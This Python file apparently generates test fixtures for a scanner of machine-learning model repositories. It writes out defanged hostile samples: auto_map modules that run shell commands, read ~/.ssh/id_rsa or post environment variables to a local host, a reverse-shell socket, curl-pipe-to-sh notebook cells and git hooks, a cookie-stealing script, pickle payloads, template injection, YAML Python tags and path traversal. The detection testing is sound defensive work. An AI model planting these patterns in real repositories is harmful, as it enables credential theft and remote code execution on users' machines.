"""Model repositories and their text files: Python that comes along, templates, YAML tags, notebooks, MLflow folders."""
import json

from kit import ECHO, P, evil, zipped
from safetensors_files import file, tensors
from templates import HARMLESS, HOSTILE

CONFIG = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "num_hidden_layers": 1, "vocab_size": 7, "torch_dtype": "float16", "transformers_version": "4.40.0"}
WEIGHTS = file(*tensors({"model.embed_tokens.weight": ("F32", (7, 8))}, {"format": "pt"}))
TOKENIZER = {"add_bos_token": True, "bos_token": "<s>", "eos_token": "</s>", "tokenizer_class": "LlamaTokenizer", "model_max_length": 2048}
CODE = {
    "import-time": "import os\nos.system('echo inert')\n\nclass M:\n    pass\n",
    "subprocess": "import subprocess\n\nclass M:\n    def __init__(self, config):\n        subprocess.run(['sh', '-c', 'echo inert'])\n",
    "exec-base64": "import base64\nexec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\n\nclass M:\n    pass\n",
    "eval-download": "import urllib.request\n\nclass M:\n    def forward(self, x):\n        return eval(urllib.request.urlopen('http://127.0.0.1:9/inert').read())\n",
    "getattr": "import importlib\n\nclass M:\n    run = getattr(importlib.import_module('o' + 's'), 'sys' + 'tem')\n    def __init__(self):\n        self.run('echo inert')\n",
    "reverse-shell": "import socket, os, pty\n\ndef load():\n    s = socket.socket()\n    s.connect(('127.0.0.1', 9))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/true')\n",
    "steal": "import os, requests\n\nclass M:\n    def __init__(self, config):\n        requests.post('http://127.0.0.1:9/inert', json=dict(os.environ))\n",
    "ssh-key": "import pathlib, urllib.request\nkey = pathlib.Path('~/.ssh/id_rsa').expanduser().read_bytes()\nurllib.request.urlopen('http://127.0.0.1:9/inert', data=key)\n",
    "ctypes": "import ctypes\nctypes.CDLL('./kernel.so').run()\n",
    "pickle": "import pickle\n\ndef load(path):\n    return pickle.load(open(path, 'rb'))\n\nSTATE = pickle.loads(bytes.fromhex('" + evil().hex() + "'))\n",
}


def notebook(*cells):
    return json.dumps({"cells": [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": cell} for cell in cells], "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}, "nbformat": 4, "nbformat_minor": 5})


def make(s):
    mal = s.mal
    peers = "peers' comparison"
    for name, code in CODE.items():
        mal(f"auto-map-{name}", {"config.json": json.dumps({**CONFIG, "auto_map": {"AutoModel": "modeling_m.M"}}), "modeling_m.py": code, "model.safetensors": WEIGHTS}, f"auto_map to Python that acts: {name}")
        mal(f"code-{name}.py", code, f"Python that acts: {name}")
    mal("x08-auto-map/config.json", json.dumps({**CONFIG, "auto_map": {"AutoModelForCausalLM": "someone/elsewhere--modeling_m.M"}}), "auto_map to another repository", peers)
    mal("auto-map-tokenizer/tokenizer_config.json", json.dumps({**TOKENIZER, "auto_map": {"AutoTokenizer": ["someone/elsewhere--tokenization_m.T", None]}}), "auto_map of a tokenizer to another repository")
    for name, template in HOSTILE.items():
        mal(f"template-{name}/tokenizer_config.json", json.dumps({**TOKENIZER, "chat_template": template}), f"template injection: {name}", "CVE-2024-34359")
    mal("template-list/tokenizer_config.json", json.dumps({**TOKENIZER, "chat_template": [{"name": "default", "template": HARMLESS["chatml"]}, {"name": "tool_use", "template": HOSTILE["lipsum"]}]}), "injection in the second of several templates")
    mal("template-file/chat_template.jinja", HOSTILE["globals"], "injection in chat_template.jinja")
    mal("template-json/chat_template.json", json.dumps({"chat_template": HOSTILE["globals"]}), "injection in chat_template.json")
    mal("template-processor/processor_config.json", json.dumps({"processor_class": "LlavaProcessor", "chat_template": HOSTILE["subclasses"]}), "injection in processor_config.json")
    mal("template-any-name.json", json.dumps({"chat_template": HOSTILE["lipsum"]}), "injection in a file of any name")
    mal("template-folder", {"config.json": json.dumps(CONFIG), "additional_chat_templates/rag.jinja": HOSTILE["self"], "model.safetensors": WEIGHTS}, "injection among the additional templates")
    for name, text in {"apply": "model: !!python/object/apply:os.system ['echo inert']\n", "new": "a: !!python/object/new:subprocess.Popen [['echo', 'inert']]\n", "module": "a: !!python/module:os\n", "name": "a: !!python/name:os.system\n",
                       "tag-directive": "%TAG ! tag:yaml.org,2002:python/object/apply:\n---\nmodel: !os.system ['echo inert']\n", "verbatim": "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo inert']\n"}.items():
        mal(f"x10-yaml-{name}.yaml", text, f"YAML tag that calls Python: {name}", peers)
    for name, cell in {"shell": ["!curl -s http://127.0.0.1:9/inert | sh\n"], "magic": ["%%bash\n", "echo inert | sh\n", "curl http://127.0.0.1:9/ | bash\n"], "system": ["import os\n", "os.system('echo inert')\n"], "pip": ["!pip install --index-url http://127.0.0.1:9/simple innocent-package\n"], "get-ipython": ["get_ipython().system('curl http://127.0.0.1:9/inert | sh')\n"]}.items():
        mal(f"x09-notebook-{name}.ipynb", notebook(["import numpy as np\n"], cell), f"notebook: {name}", peers)
    output = json.loads(notebook(["1\n"]))
    output["cells"][0]["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"]}}]
    mal("notebook-script.ipynb", json.dumps(output), "notebook whose output is a script")
    mlmodel = "artifact_path: model\nflavors:\n  python_function:\n    loader_module: {}\n    model_path: model.pkl\n    python_version: 3.11.2\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\nmodel_uuid: 0123456789abcdef0123456789abcdef\n"
    mal("mlflow-pickle", {"MLmodel": mlmodel.format("mlflow.sklearn"), "model.pkl": evil(), "requirements.txt": "mlflow\nscikit-learn\n"}, "MLflow model whose pickle acts")
    mal("mlflow-loader", {"MLmodel": mlmodel.format("loader") + "    code: code\n", "code/loader.py": CODE["import-time"], "model.pkl": b"\x80\x04}."}, "MLflow model with a loader of its own")
    mal("mlflow-traversal", {"MLmodel": mlmodel.format("mlflow.sklearn").replace("model.pkl", "../../../etc/inert.pkl")}, "MLflow model that points out of its folder")
    index = {"metadata": {"total_size": 224}, "weight_map": {"a": "model-00001-of-00001.safetensors", "b": "../../../secret.bin"}}
    mal("index-traversal", {"config.json": json.dumps(CONFIG), "model.safetensors.index.json": json.dumps(index), "model-00001-of-00001.safetensors": WEIGHTS}, "shard index that points out of its folder")
    mal("index-pickle", {"config.json": json.dumps(CONFIG), "model.safetensors.index.json": json.dumps({"weight_map": {"a": "shard.safetensors"}}), "shard.safetensors": evil()}, "shard that is a pickle")
    mal("both-weights", {"config.json": json.dumps(CONFIG), "model.safetensors": WEIGHTS, "pytorch_model.bin": zipped(("archive/data.pkl", evil(2)), ("archive/version", b"3\n"))}, "harmless safetensors beside a hostile pytorch_model.bin")
    mal("training-args", {"config.json": json.dumps(CONFIG), "model.safetensors": WEIGHTS, "training_args.bin": zipped(("archive/data.pkl", evil(2)), ("archive/version", b"3\n"))}, "hostile training_args.bin")
    mal("adapter", {"adapter_config.json": json.dumps({"peft_type": "LORA", "base_model_name_or_path": "meta/x", "auto_mapping": {"base_model_class": "M", "parent_library": "innocent.modeling"}}), "adapter_model.bin": zipped(("archive/data.pkl", evil(2)), ("archive/version", b"3\n"))}, "hostile adapter")
    mal("sentence-transformers", {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]), "custom_st.py": CODE["subprocess"], "model.safetensors": WEIGHTS}, "sentence-transformers module with its own code")
    mal("handler", {"config.json": json.dumps(CONFIG), "handler.py": CODE["steal"], "model.safetensors": WEIGHTS}, "endpoint handler that sends the environment away")
    mal("custom-generate", {"config.json": json.dumps(CONFIG), "custom_generate/generate.py": CODE["exec-base64"], "model.safetensors": WEIGHTS}, "custom_generate with its own code")
    mal("dataset-script", {"README.md": "# data\n", "data.py": CODE["eval-download"]}, "data set script")
    mal("setup-py", {"setup.py": "from setuptools import setup\nimport os\nos.system('echo inert')\nsetup(name='m')\n", "config.json": json.dumps(CONFIG)}, "setup.py that acts")
    mal("requirements", {"requirements.txt": "--index-url http://127.0.0.1:9/simple\ntorch\n", "config.json": json.dumps(CONFIG)}, "requirements from another index")
    mal("pickled-tokenizer", {"config.json": json.dumps(CONFIG), "tokenizer.pkl": P(4).name("os", "system").call(ECHO).done()}, "pickled tokenizer")
    mal("gitattributes", {"config.json": json.dumps(CONFIG), "model.safetensors": WEIGHTS, "hooks/post-checkout": "#!/bin/sh\ncurl http://127.0.0.1:9/inert | sh\n"}, "git hook in the repository")
    mal("diffusers", {"model_index.json": json.dumps({"_class_name": ["pipeline", "MyPipeline"], "unet": ["my_unet", "UNet"]}), "pipeline.py": CODE["subprocess"], "unet/my_unet.py": CODE["import-time"]}, "diffusers pipeline with its own code")
    mal("spacy", {"config.cfg": "[components.x]\nfactory = \"x\"\n", "meta.json": "{\"lang\":\"en\",\"name\":\"m\"}", "tagger/model": b"\x81", "functions.py": CODE["import-time"]}, "spaCy package with its own code")
    mal("hydra.yaml", "model:\n  _target_: builtins.eval\n  _args_: [\"print('inert')\"]\n", "Hydra configuration that instantiates eval")
